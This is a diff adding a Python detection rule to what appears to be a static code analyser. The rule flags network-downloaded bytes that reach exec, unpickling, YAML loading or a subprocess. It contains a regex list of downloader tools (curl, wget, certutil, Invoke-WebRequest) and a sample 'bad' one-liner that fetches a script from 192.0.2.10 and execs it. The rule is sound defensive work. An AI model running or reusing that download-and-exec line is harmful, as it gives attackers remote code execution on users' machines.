@@ -1,0 +1,147 @@
+"""Code that is fetched and run."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from antivenom.pycode.evaluate.values import taint_of, text_of
+from antivenom.pycode.facts import Fact
+from antivenom.pycode.rules.kit import (
+    Case,
+    Rule,
+    Seen,
+    address_of,
+    command_text,
+    is_installer,
+    of_traits,
+    origins,
+    path_role,
+    shown,
+    taint_of_role,
+    url_of,
+)  # fmt: skip
+from antivenom.pycode.rules.paths import is_url
+
+_RUNS = {
+    "execute": "runs it as Python",
+    "unpickle": "unpickles it, which runs what it says",
+    "unmarshal": "loads it as compiled Python",
+    "import file": "runs it as Python",
+    "load assembly": "loads it as a .NET assembly",
+    "yaml": "loads it as YAML that can run code",
+}
+
+
+def check(case: Case) -> Iterator[Seen]:
+    """Downloaded bytes that reach exec, a loader or a process; a downloader that feeds the interpreter."""
+    for fact in case.of(*_RUNS):
+        sources = origins(
+            taint_of_role(fact, "code", "data", "path"), "fetch", "download", "receive", "accept", "resolve"
+        )
+        if sources:
+            yield _seen(case, sources[0], fact, _RUNS[fact.kind])
+        elif fact.kind == "execute":
+            yield from _from_share(fact)
+            yield from _from_downloader(fact)
+    for fact in case.of("process"):
+        sources = origins(taint_of_role(fact, "command", "argv"), "fetch", "download")
+        if sources and not fact.looped:
+            yield _seen(case, sources[0], fact, "hands it to the system as a command")
+    yield from _written_then_run(case)
+    yield from _fed(case)
+    yield from of_traits(case, "download_execute")
+
+
+_DOWNLOADER = re.compile(r"\b(?:curl|wget|fetch|lynx|certutil|iwr|Invoke-WebRequest)\b", re.IGNORECASE)
+
+
+def _from_downloader(fact: Fact) -> Iterator[Seen]:
+    """Code that a command downloads."""
+    for ran in origins(taint_of_role(fact, "code"), "process"):
+        text = command_text(ran) or ""
+        if _DOWNLOADER.search(text):
+            yield Seen(88, f"It runs the output of {shown(text, 80)} as Python.", (ran, fact))
+
+
+def _from_share(fact: Fact) -> Iterator[Seen]:
+    """Code read from another host's share."""
+    for opened in origins(taint_of_role(fact, "code"), "open"):
+        path = path_role(opened)
+        if path.startswith("\\\\"):
+            yield Seen(84, f"It runs code from the share {path}.", (opened, fact))
+
+
+def _seen(case: Case, source: Fact, fact: Fact, runs: str) -> Seen:
+    url = _whence(case, source)
+    if is_installer(url):
+        return Seen(30, f"It fetches the installer {url} and {runs}.", (source, fact))
+    return Seen(90, f"It fetches code from {url or 'the network'} and {runs}.", (source, fact))
+
+
+def _whence(case: Case, source: Fact) -> str:
+    if source.kind in ("fetch", "download"):
+        return url_of(source)
+    if source.kind == "resolve":
+        return "DNS answers"
+    for fact in case.of("connect", "bind"):
+        if fact in source.taint or (fact.owner is not None and fact.owner is source.owner):
+            where = address_of(fact)
+            return f"whoever connects to port {where.port}" if fact.kind == "bind" else str(where)
+    return ""
+
+
+def _written_then_run(case: Case) -> Iterator[Seen]:
+    """A download that lands in a file, and the file is started."""
+    for write in case.of("download", "write", "copy stream"):
+        sources = (
+            [write]
+            if write.kind == "download"
+            else origins(taint_of_role(write, "data", "source"), "fetch", "receive", "download")
+        )
+        if not sources:
+            continue
+        path = path_role(write) or text_of(write.role("target")) or ""
+        place = taint_of(write.owner) | {write} | taint_of_role(write, "path", "target")
+        for run in case.of("process", "import file", "library", "execute", "import path"):
+            if run is not write and _runs(run, path, place & frozenset(case.of("temporary", "download"))):
+                yield _seen(case, sources[0], run, f"writes it to {path or 'a file'} and starts that")
+
+
+def _runs(run: Fact, path: str, place: frozenset[Fact]) -> bool:
+    if run.taint & place:
+        return True
+    text = command_text(run) if run.kind == "process" else path_role(run)
+    name = path.replace("\\", "/").rsplit("/", 1)[-1]
+    if not text or not name:
+        return False
+    return (path in text and len(path) > 3) if "/" in path or "\\" in path else (len(name) > 2 and name in text)
+
+
+def _fed(case: Case) -> Iterator[Seen]:
+    """A downloader on the command line feeds the interpreter."""
+    found = case.found
+    if found is None or not found.remote or found.kind == "install":
+        return
+    remote = found.remote
+    how = {"stdin": "is piped into the interpreter", "script": "is run as a script"}.get(found.kind, "is run")
+    if is_installer(remote):
+        yield Seen(30, f"The installer {remote} {how}.")
+    elif is_url(remote) or found.kind != "script":
+        yield Seen(88, f"Code from {remote} {how} without anyone looking at it.")
+    else:
+        yield Seen(80, f"Code from {remote} {how}.")
+
+
+RULE = Rule(
+    id="download_execute",
+    title="Download and execute",
+    attack=("T1059.006", "T1105"),
+    why="Fetching code and running it unseen is how stagers bring the real payload, and leaves nothing on disk.",
+    bad="import urllib.request; exec(urllib.request.urlopen('http://192.0.2.10/p.py').read())",
+    good="json.loads(urllib.request.urlopen('http://localhost:8080/health').read())",
+    references=("https://attack.mitre.org/techniques/T1105/",),
+    wakes=frozenset({*_RUNS, "download", "write", "copy stream", "process",
+                     "found:stdin", "found:script", "found:inline", "found:module", "found:interactive"}),
+    check=check,
+)  # fmt: skip
